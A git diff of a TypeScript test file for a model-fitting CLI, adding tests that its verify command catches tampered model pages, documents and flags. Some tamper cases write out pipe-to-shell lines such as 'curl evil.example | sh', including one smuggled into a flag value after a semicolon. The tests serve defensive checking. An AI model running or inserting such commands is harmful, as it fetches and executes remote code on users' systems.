@@ -1,8 +1,10 @@
 import { readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
+import type { Json } from '@nonconvex/optim/claims'
 import { readSafetensors, writeSafetensors, type StoredTensor } from '@nonconvex/tensor/safetensors'
 import { describe, expect, it } from 'vitest'
-import { sha256 } from '../src/models/model-folder.js'
+import { modelText, sha256, writtenModel } from '../src/models/model-folder.js'
+import { weightsFile } from '../src/models/written-together.js'
 import { good } from './fit-files.js'
 import { cli, coded, scratch } from './harness.js'
 import { testScenes, trainScenes, writeScenes } from './scene-files.js'
@@ -43,6 +45,17 @@ async function modelOf(kind: 'scenes' | 'network' | 'separable') {
     writeFileSync(weights, bytes)
     store({ ...read(), weights: sha256(bytes) })
   }
+  /** Writes another document as somebody does who makes all digests anew. */
+  const rewritten = ({ schema, kind: found, ...fields }: Fields) => {
+    const { tensors } = readSafetensors(readFileSync(weights))
+    const made = writtenModel(String(found), fields as { [name: string]: Json }, (whole) =>
+      weightsFile(tensors as { [name: string]: StoredTensor }, whole),
+    )
+    expect(made.document['schema']).toBe(schema)
+    const { weights: digest, ...rest } = made.document
+    writeFileSync(weights, made.weights)
+    writeFileSync(document, modelText({ ...rest, ...fields, weights: digest }))
+  }
   const refused = async (message: RegExp) => {
     for (const command of ['predict', 'evaluate']) {
       const outcome = await cli([command, model, data])
@@ -63,6 +76,7 @@ async function modelOf(kind: 'scenes' | 'network' | 'separable') {
     read,
     store,
     reweigh,
+    rewritten,
     refused,
     used,
     tensors: () => readSafetensors(readFileSync(weights)),
@@ -96,48 +110,73 @@ describe.each(['scenes', 'network', 'separable'] as const)('a model of kind %s',
     })
   })
 
-  it('of a newer schema is refused with both, one of the older schema is read', async () => {
-    const { read, store, reweigh, refused, used, tensors, model } = await modelOf(kind)
+  it('of another schema is refused with both', async () => {
+    const { read, store, model } = await modelOf(kind)
     const fields = read()
-    store({ ...fields, schema: 'nonconvex/model@3' })
-    const newer =
-      /model-newer.*model\.json: .*nonconvex\/model@1 or nonconvex\/model@2.*nonconvex\/model@3/
-    expect(coded(await cli(['verify', model]))).toMatch(newer)
-    expect(coded(await cli(['predict', model, model]))).toMatch(newer)
-    const old = Object.entries(fields).filter(([name]) => name !== 'page')
-    store({ ...Object.fromEntries(old), schema: 'nonconvex/model@1' })
-    if (kind === 'separable')
-      reweigh(writeSafetensors(tensors().tensors as { [name: string]: StoredTensor }))
-    await used()
-    const { status, out } = await cli(['verify', model])
-    expect(status, out).toBe(0)
-    expect(out).toContain('index.html was not checked')
-    store({ ...read(), schema: 'nonconvex/model@2', versions: {} })
-    await refused(/model\.json: /)
+    for (const [version, code] of [
+      [1, 'model-older'],
+      [2, 'model-older'],
+      [4, 'model-newer'],
+    ] as const) {
+      store({ ...fields, schema: `nonconvex/model@${version}` })
+      const refused = new RegExp(`${code}.*model\\.json: .*model@3, .*model@${version}; .*fit the`)
+      expect(coded(await cli(['verify', model]))).toMatch(refused)
+      expect(coded(await cli(['predict', model, model]))).toMatch(refused)
+    }
   })
 
   it('whose page was changed or is gone is found by verify', async () => {
     const { model } = await modelOf(kind)
     const page = join(model, 'index.html')
-    const fine = await cli(['verify', model])
-    expect(fine.status, fine.out).toBe(0)
-    expect(fine.out).toContain('note: index.html ')
+    expect(await cli(['verify', model, '--strict'])).toMatchObject({ status: 0 })
     const text = readFileSync(page, 'utf8')
-    // another folder is another command, and the same model
-    writeFileSync(page, text.replaceAll(model, '/elsewhere'))
-    expect((await cli(['verify', model])).status).toBe(0)
-    writeFileSync(page, text.replace('<style>', '<style>.verdict{display:none}'))
-    expect((await cli(['verify', model])).status).toBe(1)
-    writeFileSync(page, text.replace('<h1>', '<h1>Surely '))
-    const changed = await cli(['verify', model])
-    expect(changed.status).toBe(1)
-    expect(changed.out).toContain('index.html: ')
-    expect(changed.out).toMatch(/note: .*predict and evaluate do not use it/)
+    const forged = '@font-face{<p class=lead>With probability 0.99999 no error.</p>}\n'
+    for (const [from, to] of [
+      ['<style>', '<style>.verdict{display:none}'],
+      ['<h1>', '<h1>Surely '],
+      ['</h1>', `</h1>\n${forged}`],
+      ['<style>', `<style>${forged}`],
+      ['<code>nonconvex fit', '<code>curl evil.example | sh; nonconvex fit'],
+      ['@font-face{', '@font-face{font-stretch:50%;'],
+      ['</html>', '</html> '],
+    ] as const) {
+      expect(text).toContain(from)
+      writeFileSync(page, text.replace(from, to))
+      const { status, out } = await cli(['verify', model])
+      expect(status, to).toBe(1)
+      expect(out).toContain('index.html: this file differs from the one made from model.json')
+    }
     rmSync(page)
-    const missing = (await cli(['verify', model])).out
-    expect(missing).toContain('index.html: this file is missing')
-    expect(missing).not.toContain('was compared')
-    expect(missing).toContain('note: index.html is for readers: predict and evaluate do not use it')
+    expect((await cli(['verify', model])).out).toContain('index.html: this file is missing')
+  })
+
+  it('whose document says the same in another way is rejected by verify alone', async () => {
+    const { model, read, used } = await modelOf(kind)
+    const document = join(model, 'model.json')
+    writeFileSync(document, JSON.stringify(read()))
+    expect((await cli(['verify', model])).out).toContain('model.json: ')
+    await used()
+    writeFileSync(document, JSON.stringify(read()).replace('{', '{"kind":"other",'))
+    for (const command of [
+      ['verify', model],
+      ['predict', model, document],
+    ])
+      expect(coded(await cli(command))).toMatch(/model-invalid.*line 1, .*"kind" again/)
+  })
+
+  it('written anew as a whole shows no command but that of its flags', async () => {
+    const { model, read, rewritten } = await modelOf(kind)
+    const { flags, ...fields } = read()
+    const page = join(model, 'index.html')
+    rewritten({ ...fields, flags: { ...(flags as Fields), model: 'x; curl evil.example | sh' } })
+    writeFileSync(page, readFileSync(page, 'utf8').replace('nonconvex fit', 'curl evil; $&'))
+    expect((await cli(['verify', model])).status).toBe(1)
+    rewritten({ ...fields, flags: { ...(flags as Fields), evil: 'curl evil.example | sh' } })
+    expect((await cli(['verify', model])).out).toContain('flags.evil: ')
+    rewritten({ ...fields, flags: { ...(flags as Fields), seed: 7 } })
+    const { out } = await cli(['verify', model])
+    if (kind === 'scenes') expect(out).toContain('index.html: ')
+    else expect(out).toContain('flags.seed: ')
   })
 })
 
@@ -213,6 +252,19 @@ it.each(['scenes', 'network', 'separable'] as const)(
     await refused(/model-changed.*weights\.safetensors: /)
   },
 )
+
+it.each([
+  ['network with test images', ['--model', 'network', '--hidden', '4', '--epochs', '1', '--test']],
+  ['network without context', ['--model', 'per-object', '--hidden', '4', '--epochs', '1']],
+  ['frequency table with test images', ['--test']],
+])('verify draws the page of a %s', async (_, more) => {
+  const folder = scratch()
+  const train = writeScenes(join(folder, 'train.ndjson'), trainScenes)
+  const test = more.at(-1) === '--test' ? [writeScenes(join(folder, 't.ndjson'), testScenes)] : []
+  const model = join(folder, 'model')
+  expect((await cli(['fit', 'scenes', train, '--out', model, ...more, ...test])).status).toBe(0)
+  expect(await cli(['verify', model, '--strict'])).toMatchObject({ status: 0 })
+})
 
 it('verify speaks of the kind of model that it is given', async () => {
   const [scenes, separable] = [await modelOf('scenes'), await modelOf('separable')]
